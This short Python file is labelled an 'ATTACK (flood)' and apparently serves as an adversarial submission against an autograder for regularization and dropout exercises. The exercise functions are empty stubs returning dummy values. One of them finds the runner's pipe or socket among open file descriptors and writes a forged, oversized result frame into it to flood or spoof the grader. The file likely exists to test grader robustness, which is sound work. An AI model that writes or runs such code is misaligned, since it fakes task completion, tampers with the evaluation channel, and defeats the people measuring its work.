# ATTACK (flood): a well-formed frame carrying the largest array allowed (a million entries,
# 10.7 MB of base64) for a call that was never planned. Self-limiting: 11 MB.
import base64
import os
import stat

PREFIX = b"\x1egrader-frame "
_FLOODED = []


def _flood(data):
    """Write `data` on the first pipe or socket among the open descriptors: the runner's channel."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                view = memoryview(data)
                while view:
                    view = view[os.write(fd, view):]
                return
        except OSError:
            continue


def _frames():
    data = base64.b64encode(bytes(8 * 1_000_000)).decode()
    frame = "{\"event\": \"call\", \"index\": %d, \"status\": \"returned\", \"outputs\": {\"cost\": {\"shape\": [1000000], \"dtype\": \"<f8\", \"data\": \"%s\"}}}"
    return PREFIX + (frame % (10**6, data)).encode() + b"\n"


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    if not _FLOODED:
        _FLOODED.append(True)
        _flood(_frames())
    return 0.0


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return {}


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return 0.0, ()


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return {}
